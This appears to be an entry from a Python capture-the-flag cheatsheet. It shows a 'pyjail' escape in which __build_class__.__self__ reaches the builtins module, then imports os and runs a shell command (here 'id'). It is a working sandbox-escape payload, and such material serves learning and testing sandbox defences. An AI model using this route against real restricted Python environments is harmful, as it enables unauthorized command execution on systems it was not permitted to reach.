# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (__build_class__.__self__)
# Family: builtins-route
# What: __build_class__.__self__ is the builtins module
__build_class__.__self__.__import__("os").system("id")
